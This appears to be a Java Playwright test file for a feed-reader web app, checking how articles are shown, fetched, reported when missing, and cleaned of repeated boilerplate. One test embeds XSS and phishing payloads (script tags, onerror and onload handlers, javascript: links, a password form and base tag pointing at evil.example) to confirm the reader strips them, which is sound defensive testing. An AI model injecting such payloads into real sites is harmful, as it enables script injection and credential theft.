package org.feedmill.app;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Page;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

/** Tests reading an article of a feed. */
@Timeout(300)
final class ArticleFlowTest {

    private static AppTestServer server;
    private static Page page;
    private static AppTestFeeds feeds;

    @BeforeAll
    static void start() {
        server = new AppTestServer();
        page = server.window();
        server.signIn(page);
        feeds = new AppTestFeeds(server, page);
        for (int i = 1; i <= 5; i++) {
            server.page("/a/" + i, article(i, ""));
        }
        server.page("/list", list("/a/"));
    }

    @AfterAll
    static void stop() {
        if (server != null) {
            server.close();
        }
    }

    /** A text that all rows share would be no summary. */
    private static final List<String> TEASERS = List.of(
            "Was am Hafen geschah.",
            "Freier Eintritt nach der Dämmerung.",
            "Ein Archiv erzählt von der Reise.",
            "Die Arbeiten dauerten drei Monate.",
            "Zweimal am Tag zur Insel.");

    private static String list(String at) {
        return "<!doctype html><html lang=de><head><meta charset=utf-8><title>Hafenblatt</title></head><body><ul>"
                + row(at, 1, "Die Uhr am Rathaus geht wieder", "2. Mai 2026")
                + row(at, 2, "Nacht der Laternen am Kai", "1. Mai 2026")
                + row(at, 3, "Briefe aus dem Eis gefunden", "24. April 2026")
                + row(at, 4, "Der Kran hat ein neues Dach", "17. April 2026")
                + row(at, 5, "Leinen los für die Fähre", "9. April 2026") + "</ul></body></html>";
    }

    private static String row(String at, int number, String title, String date) {
        return "<li><a href=" + at + number + ">" + title + "</a> <time>" + date + "</time><p>"
                + TEASERS.get(number - 1) + "</p></li>";
    }

    private static String article(int number, String more) {
        return "<!doctype html><html lang=de><head><meta charset=utf-8><title>Artikel " + number
                + "</title></head><body><nav><a href=/>Start</a> <a href=/about>Über uns</a></nav><article><h1>Artikel "
                + number
                + "</h1><p>Am Morgen war es still auf dem Platz, und niemand hatte damit gerechnet, dass an diesem"
                + " Tag noch etwas geschehen würde, von dem man später erzählt.</p><p>Dann schlug die Uhr am Rathaus zum"
                + " ersten Mal seit zwei Wintern: Sie geht wieder, weil die Werkstatt ein Zahnrad aus dem Jahr 1890 von Hand"
                + " nachgefeilt hat, wie der Meister sagt.</p>" + more
                + "<h2>Wie es weitergeht</h2><p>Im Herbst soll auch"
                + " das Glockenspiel zurückkehren. Dafür sammeln die Vereine noch Geld, und wer mag, kann an jedem Samstag"
                + " in der Werkstatt zuschauen und fragen.</p><blockquote>Eine Uhr ist kein Schmuck, sie ist ein"
                + " Versprechen an alle, die zu spät kommen.</blockquote><p>Zum Fest am Sonntag wird der Turm geöffnet; die"
                + " Treppe hat 212 Stufen, und oben gibt es Saft und Brot für alle, die es geschafft haben.</p></article>"
                + "<footer>© Hafenblatt</footer></body></html>";
    }

    private static void first(String feed) {
        page.navigate(server.app(feed));
        page.locator("#list > li a").first().click();
        page.waitForSelector("article.read");
    }

    @Test
    void theTextIsThereWithItsKeyParagraph() {
        server.trouble.clear();
        String feed = feeds.make("/list", ",\"articles\":5");
        first(feed);
        assertThat(page.locator("h1").textContent()).isEqualTo("Die Uhr am Rathaus geht wieder");
        assertThat(page.locator(".read header time").textContent()).isEqualTo("May 2, 2026");
        assertThat(page.locator(".prose").textContent()).contains("Glockenspiel");
        assertThat(page.locator(".prose .key").textContent()).startsWith("Dann schlug die Uhr am Rathaus");
        assertThat(page.locator("main").textContent().split("Dann schlug die Uhr am Rathaus"))
                .hasSize(2);
        AppTestServer.screenshot(page, "read");
        AppTestServer.accessible(page);
        page.locator(".item-pager a[rel=next]").focus();
        page.keyboard().press("Enter");
        page.waitForSelector("h1:has-text('Nacht der Laternen')");
        assertThat(page.locator(".item-pager a[rel=prev]").textContent()).contains("Die Uhr am Rathaus");
        for (Page other : List.of(server.phone(), server.dark())) {
            server.signIn(other);
            other.navigate(page.url());
            AppTestServer.screenshot(other, other.viewportSize().width < 500 ? "read-phone" : "read-dark");
            AppTestServer.accessible(other);
            other.context().close();
        }
        assertThat(server.trouble).isEmpty();
    }

    @Test
    void anArticleIsFetchedForWhoWantsToReadIt() {
        server.trouble.clear();
        String feed = feeds.make("/list");
        first(feed);
        assertThat(page.locator(".prose").textContent()).isEqualTo("Was am Hafen geschah.");
        AppTestServer.screenshot(page, "read-summary");
        AppTestServer.accessible(page);
        page.locator("#fetch").click();
        page.waitForSelector(".prose:has-text('Glockenspiel')");
        assertThat(page.locator(".prose .key").count()).isEqualTo(1);
        assertThat(server.trouble).isEmpty();
    }

    @Test
    void whatCannotBeReadIsTold() {
        server.trouble.clear();
        server.page("/gone-list", list("/gone/"));
        String feed = feeds.make("/gone-list");
        first(feed);
        page.locator("#fetch").click();
        page.waitForSelector("#text .warning");
        assertThat(page.locator("#text .warning").textContent()).contains("The article could not be fetched.");
        assertThat(page.locator("#fetch").textContent()).contains("Try again");
        AppTestServer.screenshot(page, "read-failed");
        AppTestServer.accessible(page);
        page.navigate(server.app(feed + "/items/bm9uc2Vuc2U"));
        assertThat(page.locator("h1").textContent()).isEqualTo("Page not found");
        assertThat(server.trouble).isEmpty();
    }

    @Test
    void hostileArticlesAreOnlyText() {
        server.trouble.clear();
        String attacks =
                "<p>Bitte lesen Sie weiter, es lohnt sich <script>alert(1)</script><img src=x onerror=alert(2)>"
                        + "<img src=" + server.at("/p.gif")
                        + " alt='Ein Kran am Kai'><a href='javascript:alert(3)'>klick</a>"
                        + "<a href=http://evil.example/ onclick=alert(4)>weiter</a><svg onload=alert(5)></svg>"
                        + "<iframe srcdoc='<script>alert(6)</script>'></iframe><style>body{display:none}</style></p>"
                        + "<p style='position:fixed;inset:0'>Das hier will alles zudecken, und doch ist es nur ein Absatz wie jeder"
                        + " andere auch, mit genug Worten darin.</p></div></main></body><form action=http://evil.example/>"
                        + "<input name=password><button>Anmelden</button></form><base href=http://evil.example/>"
                        + "<object data=x></object>";
        for (int i = 1; i <= 5; i++) {
            server.page("/evil/" + i, article(i, attacks));
        }
        server.page("/evil-list", list("/evil/"));
        String feed = feeds.make("/evil-list", ",\"articles\":5");
        for (boolean stored : List.of(true, false)) {
            first(stored ? feed : feeds.make("/evil-list"));
            if (!stored) {
                page.locator("#fetch").click();
            }
            page.waitForSelector(".prose:has-text('Am Morgen'), #text .warning, #fetch");
            if (!stored) {
                page.waitForSelector(".prose:has-text('Am Morgen'), #text .warning");
            }
            assertThat(page.locator("#text").textContent()).contains("Am Morgen war es still");
            assertThat(page.locator(
                                    ".prose script, .prose img:not([src^='/app/picture?']), .prose iframe, .prose form, .prose input, .prose svg")
                            .count())
                    .isZero();
            assertThat(page.locator(".prose [style], .prose [onclick], .prose a[href^=javascript]")
                            .count())
                    .isZero();
            assertThat(page.locator("main .item-pager").count()).isEqualTo(1);
            assertThat(page.locator("body > footer").isVisible()).isTrue();
        }
        AppTestServer.screenshot(page, "read-hostile");
        assertThat(server.trouble).isEmpty();
    }

    @Test
    void aWrongTextIsShownOnceForAllArticlesOfTheSite() {
        server.trouble.clear();
        String advice =
                "<div class=advice><p>Ein Rat der Redaktion, der in jedem Artikel steht und nicht dazugehört: Wer die"
                        + " Zeitung bestellt, bekommt eine Tasse dazu.</p></div>";
        for (int i = 1; i <= 5; i++) {
            server.page("/wrong/" + i, article(i, advice));
        }
        server.page("/wrong-list", list("/wrong/"));
        first(feeds.make("/wrong-list"));
        String item = page.url();
        page.locator(".read a[href$='/label']").click();
        page.waitForSelector("#article-result:has-text('Tasse dazu')");
        AppTestServer.accessible(page);
        page.frameLocator("#page").getByText("Ein Rat der Redaktion").click();
        page.locator("#article-path button", new Page.LocatorOptions().setHasText("div.advice"))
                .click();
        page.waitForFunction(
                "() => document.querySelector('#article-path [aria-current]').textContent === 'div.advice'");
        page.locator("[data-mark=strip]").click();
        page.waitForSelector("#article-result:has-text('Glockenspiel'):not(:has-text('Tasse dazu'))");
        assertThat(page.locator("#article-result code").textContent()).isEqualTo("//DIV.advice");
        AppTestServer.accessible(page);
        AppTestServer.screenshot(page, "article-label");
        page.locator("#article-label-save").click();
        page.waitForSelector(".read .done");
        page.locator("#fetch").click();
        page.waitForSelector(".prose:has-text('Glockenspiel')");
        assertThat(page.locator(".prose").textContent()).doesNotContain("Tasse dazu");
        first(feeds.make("/wrong-list?again", ",\"articles\":5")); // updates read articles in the same way
        assertThat(page.locator(".prose").textContent())
                .contains("Glockenspiel")
                .doesNotContain("Tasse dazu");
        page.navigate(item.replaceAll("\\?.*", "") + "/label");
        page.locator("form[action$='/drop'] button").click();
        page.waitForSelector(".read .done");
        page.locator("#fetch").click();
        page.waitForSelector(".prose:has-text('Tasse dazu')");
        assertThat(server.trouble).isEmpty();
    }
}
